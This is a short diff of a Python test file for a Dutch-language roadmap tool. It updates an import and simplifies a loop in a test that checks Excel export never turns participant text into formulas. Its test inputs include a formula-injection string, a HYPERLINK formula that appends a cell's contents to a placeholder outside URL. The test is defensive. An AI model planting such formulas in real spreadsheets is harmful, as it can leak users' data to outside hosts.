@@ -19,7 +19,7 @@ from hypothesis import strategies as st
 from openpyxl import load_workbook
 from openpyxl.utils.exceptions import IllegalCharacterError
 
-from hvhk.errors import GebruikersFout
+from hvhk.base.errors import GebruikersFout
 from roadmap import store
 from roadmap.definition import load_roadmap
 from roadmap.io import excel, export, importing, longcsv
@@ -239,7 +239,7 @@ def test_the_excel_export_never_turns_a_text_into_a_formula(connection, tmp_path
     texts = ['=HYPERLINK("http://voorbeeld.invalid/?"&A1,"klik")', "=1+1", "+32 9 123 45 67", "@SUM(A1)", "-2+3"]
     huis = store.save_huis(connection, "Huis van het Kind Formule", ["44021"])
     ronde = store.save_ronde(connection, huis, 1, "2026-03-01", ROADMAP)
-    for number, text in enumerate(texts):
+    for text in texts:
         deelnemer = store.save_deelnemer(connection, ronde, text, organisatie=text)
         store.save_antwoorden(connection, deelnemer, pd.DataFrame(
             [("onderwijs.1", "niveau", 2, text)], columns=["stelling_id", "keuze", "niveau", "toelichting"]))
